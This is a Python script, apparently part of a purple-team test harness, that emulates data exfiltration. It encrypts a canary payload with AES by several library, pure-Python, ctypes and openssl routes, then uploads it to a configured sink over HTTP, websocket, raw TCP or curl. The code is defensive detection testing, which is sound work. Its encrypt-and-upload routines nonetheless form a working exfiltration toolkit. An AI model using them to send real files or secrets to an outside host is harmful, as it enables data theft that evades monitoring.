"""Encrypt-then-upload emulation in python3 (benign: canary payload, harness sink only).

usage: aes_exfil.py --encrypt ROUTE --upload ROUTE [--delay SECONDS]

encryption routes (what the process does to $PURPLE_PAYLOAD, result in $PURPLE_OUT):
  cryptography-gcm   AES-256-GCM in-process with `cryptography` (nonce|ct|tag, key $PURPLE_KEY_HEX)
  cryptography-cbc   AES-256-CBC in-process with `cryptography`, OpenSSL -pbkdf2 container
  auto-cbc           cryptography-cbc when importable, else pure-python-cbc
  pure-python-cbc    AES-256-CBC in pure Python, OpenSSL -pbkdf2 container
  pure-python-ctr    AES-128-CTR in pure Python, OpenSSL -pbkdf2 container
  ctypes-libcrypto   AES-256-CBC through libcrypto's EVP API via ctypes (key/iv from the run)
  ctypes-commoncrypto AES-256-CBC through CommonCrypto CCCrypt via ctypes (macOS)
  openssl-child      child process `openssl enc -aes-256-cbc -pbkdf2 -salt -pass file:…`
  none               nothing (upload-only half of a detached pair: waits for $PURPLE_OUT)
upload routes (sends $PURPLE_OUT to the sink):
  urllib | http-client | websocket | raw-tcp   in-process
  curl-child                                   child `curl --data-binary @…`
  none                                         no upload (negative control)
"""

import argparse
import http.client
import os
import socket
import subprocess
import sys
import time
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import journal  # noqa: E402


def env(name):
    value = os.environ.get(name)
    if not value:
        sys.stderr.write("aes_exfil: %s is not set (run me through the harness)\n" % name)
        sys.exit(2)
    return value


def read(path):
    with open(path, "rb") as f:
        return f.read()


def write_atomically(path, data):
    # A detached uploader polls for the file; it must never see half of it.
    tmp = path + ".part"
    with open(tmp, "wb") as f:
        f.write(data)
    os.replace(tmp, path)


def enc_cryptography_gcm(plaintext):
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    nonce = os.urandom(12)
    return nonce + AESGCM(bytes.fromhex(env("PURPLE_KEY_HEX"))).encrypt(nonce, plaintext, None), "python-cryptography", "aes-256-gcm"


def enc_cryptography_cbc(plaintext):
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.hashes import SHA256
    from cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC

    salt = os.urandom(8)
    dk = PBKDF2HMAC(algorithm=SHA256(), length=48, salt=salt, iterations=10000).derive(read(env("PURPLE_PASSFILE")))
    padder = padding.PKCS7(128).padder()
    enc = Cipher(algorithms.AES(dk[:32]), modes.CBC(dk[32:48])).encryptor()
    body = enc.update(padder.update(plaintext) + padder.finalize()) + enc.finalize()
    return b"Salted__" + salt + body, "python-cryptography", "aes-256-cbc-pbkdf2"


def enc_pure_cbc(plaintext):
    import purple_aes

    return purple_aes.openssl_enc_cbc_pbkdf2(read(env("PURPLE_PASSFILE")), plaintext), "pure-python", "aes-256-cbc-pbkdf2"


def enc_pure_ctr(plaintext):
    import purple_aes

    return purple_aes.openssl_enc_ctr_pbkdf2(read(env("PURPLE_PASSFILE")), plaintext), "pure-python", "aes-128-ctr-pbkdf2"


def enc_auto_cbc(plaintext):
    try:
        import cryptography.hazmat.primitives.ciphers  # noqa: F401
    except ImportError:
        return enc_pure_cbc(plaintext)
    return enc_cryptography_cbc(plaintext)


def enc_ctypes_libcrypto(plaintext):
    import ctypes
    import ctypes.util

    name = ctypes.util.find_library("crypto") or "libcrypto.so.3"
    lib = ctypes.CDLL(name)
    lib.EVP_CIPHER_CTX_new.restype = ctypes.c_void_p
    lib.EVP_aes_256_cbc.restype = ctypes.c_void_p
    lib.EVP_EncryptInit_ex.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p]
    lib.EVP_EncryptUpdate.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.POINTER(ctypes.c_int), ctypes.c_char_p, ctypes.c_int]
    lib.EVP_EncryptFinal_ex.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.POINTER(ctypes.c_int)]
    lib.EVP_CIPHER_CTX_free.argtypes = [ctypes.c_void_p]
    key, iv = bytes.fromhex(env("PURPLE_KEY_HEX")), bytes.fromhex(env("PURPLE_IV_HEX"))
    ctx = lib.EVP_CIPHER_CTX_new()
    try:
        if lib.EVP_EncryptInit_ex(ctx, lib.EVP_aes_256_cbc(), None, key, iv) != 1:
            raise RuntimeError("EVP_EncryptInit_ex failed")
        out = ctypes.create_string_buffer(len(plaintext) + 32)
        n1, n2 = ctypes.c_int(0), ctypes.c_int(0)
        if lib.EVP_EncryptUpdate(ctx, out, ctypes.byref(n1), plaintext, len(plaintext)) != 1:
            raise RuntimeError("EVP_EncryptUpdate failed")
        tail = ctypes.create_string_buffer(32)
        if lib.EVP_EncryptFinal_ex(ctx, tail, ctypes.byref(n2)) != 1:
            raise RuntimeError("EVP_EncryptFinal_ex failed")
        return out.raw[: n1.value] + tail.raw[: n2.value], "ctypes-libcrypto", "aes-256-cbc-raw"
    finally:
        lib.EVP_CIPHER_CTX_free(ctx)


def enc_ctypes_commoncrypto(plaintext):
    import ctypes

    lib = ctypes.CDLL("/usr/lib/system/libcommonCrypto.dylib")
    k_cc_encrypt, k_cc_algorithm_aes, k_cc_option_pkcs7 = 0, 0, 1
    key, iv = bytes.fromhex(env("PURPLE_KEY_HEX")), bytes.fromhex(env("PURPLE_IV_HEX"))
    out = ctypes.create_string_buffer(len(plaintext) + 16)
    moved = ctypes.c_size_t(0)
    lib.CCCrypt.restype = ctypes.c_int32
    status = lib.CCCrypt(
        k_cc_encrypt, k_cc_algorithm_aes, k_cc_option_pkcs7,
        key, ctypes.c_size_t(len(key)), iv,
        plaintext, ctypes.c_size_t(len(plaintext)),
        out, ctypes.c_size_t(len(out)), ctypes.byref(moved),
    )
    if status != 0:
        raise RuntimeError("CCCrypt failed with status %d" % status)
    return out.raw[: moved.value], "ctypes-commoncrypto", "aes-256-cbc-raw"


def enc_openssl_child(_plaintext):
    out = env("PURPLE_OUT")
    argv = ["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-salt", "-pass", "file:" + env("PURPLE_PASSFILE"),
            "-in", env("PURPLE_PAYLOAD"), "-out", out + ".part"]
    child = subprocess.Popen(argv)
    rc = child.wait()
    if rc != 0:
        raise RuntimeError("openssl enc exited with %d" % rc)
    os.replace(out + ".part", out)
    return None, "openssl", "aes-256-cbc-pbkdf2", child.pid


ENCRYPT = {
    "cryptography-gcm": enc_cryptography_gcm,
    "cryptography-cbc": enc_cryptography_cbc,
    "auto-cbc": enc_auto_cbc,
    "pure-python-cbc": enc_pure_cbc,
    "pure-python-ctr": enc_pure_ctr,
    "ctypes-libcrypto": enc_ctypes_libcrypto,
    "ctypes-commoncrypto": enc_ctypes_commoncrypto,
    "openssl-child": enc_openssl_child,
}


def up_urllib(body):
    url = env("PURPLE_SINK_URL")
    req = urllib.request.Request(url, data=body, method="POST", headers={
        "Authorization": "Bearer " + env("PURPLE_SINK_TOKEN"), "Content-Type": "application/octet-stream",
        # The control marker as the User-Agent (docs/controls.md).
        "User-Agent": os.environ.get("PURPLE_USER_AGENT", "purple-harness/1")})
    with urllib.request.urlopen(req, timeout=30) as resp:
        resp.read()
    return "python-urllib", "http", journal.sink_destination(url), None


def up_http_client(body):
    url = env("PURPLE_SINK_URL")
    hostport = journal.sink_destination(url)
    host, port = hostport.rsplit(":", 1)
    path = "/" + url.split("://", 1)[1].split("/", 1)[1]
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.request("PUT", path, body=body, headers={"X-Purple-Token": env("PURPLE_SINK_TOKEN"), "Content-Type": "application/octet-stream",
                                                   "User-Agent": os.environ.get("PURPLE_USER_AGENT", "purple-harness/1")})
        resp = conn.getresponse()
        resp.read()
        if resp.status >= 300:
            raise RuntimeError("sink answered %d" % resp.status)
    finally:
        conn.close()
    return "python-http.client", "http", hostport, None


def up_websocket(body):
    import ws_client

    url = env("PURPLE_SINK_WS_URL")
    ws_client.upload(url, env("PURPLE_SINK_TOKEN"), body)
    return "websocket", "websocket", journal.sink_destination(url), None


def up_raw_tcp(body):
    hostport = env("PURPLE_SINK_TCP")
    host, port = hostport.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(("PURPLE %s %s\n" % (env("PURPLE_SINK_TOKEN"), env("PURPLE_VARIANT_ID"))).encode("ascii") + body)
        s.shutdown(socket.SHUT_WR)
        while s.recv(4096):
            pass
    return "raw-tcp", "tcp", hostport, None


def up_curl_child(_body):
    url = env("PURPLE_SINK_URL")
    argv = ["curl", "-sS", "--fail", "-o", os.devnull, "-A", os.environ.get("PURPLE_USER_AGENT", "purple-harness/1"), "-H", "Authorization: Bearer " + env("PURPLE_SINK_TOKEN"),
            "--data-binary", "@" + env("PURPLE_OUT"), url]
    child = subprocess.Popen(argv)
    rc = child.wait()
    if rc != 0:
        raise RuntimeError("curl exited with %d" % rc)
    return "curl", "http", journal.sink_destination(url), child.pid


UPLOAD = {
    "urllib": up_urllib,
    "http-client": up_http_client,
    "websocket": up_websocket,
    "raw-tcp": up_raw_tcp,
    "curl-child": up_curl_child,
}


def wait_for(path, timeout_s=60.0):
    deadline = time.time() + timeout_s
    while not os.path.exists(path):
        if time.time() > deadline:
            raise RuntimeError("%s did not appear within %ds" % (path, timeout_s))
        time.sleep(0.1)


def main():
    p = argparse.ArgumentParser(description="AES encrypt-then-upload emulation (purple-harness)")
    p.add_argument("--encrypt", required=True, choices=sorted(ENCRYPT) + ["none"])
    p.add_argument("--upload", required=True, choices=sorted(UPLOAD) + ["none"])
    p.add_argument("--delay", type=float, default=0.0)
    a = p.parse_args()
    out = env("PURPLE_OUT")
    journal.log("start", {"script": "aes_exfil.py", "encrypt": a.encrypt, "upload": a.upload, "delay_s": a.delay})
    rc = 0
    try:
        if a.encrypt != "none":
            plaintext = read(env("PURPLE_PAYLOAD"))
            result = ENCRYPT[a.encrypt](plaintext)
            if result[0] is None:
                _, tool, cipher, pid = result
                journal.log("encrypt", {"tool": tool, "cipher": cipher, "bytes": os.path.getsize(out)}, pid=pid, ppid=os.getpid())
            else:
                data, tool, cipher = result
                write_atomically(out, data)
                journal.log("encrypt", {"tool": tool, "cipher": cipher, "bytes": len(data)})
        if a.upload != "none":
            if a.encrypt == "none":
                wait_for(out)
            if a.delay > 0:
                journal.log("note", {"sleep_s": a.delay, "why": "delay between encryption and upload"})
                time.sleep(a.delay)
            body = read(out)
            tool, protocol, dest, pid = UPLOAD[a.upload](body)
            details = {"tool": tool, "protocol": protocol, "destination": dest, "bytes": len(body)}
            if pid is None:
                journal.log("upload", details)
            else:
                journal.log("upload", details, pid=pid, ppid=os.getpid())
    except Exception as e:  # a failed step is a result: journal it, exit non-zero
        journal.log("note", {"error": "%s: %s" % (type(e).__name__, e)})
        sys.stderr.write("aes_exfil: %s: %s\n" % (type(e).__name__, e))
        rc = 1
    journal.log("exit", {"code": rc})
    return rc


if __name__ == "__main__":
    sys.exit(main())
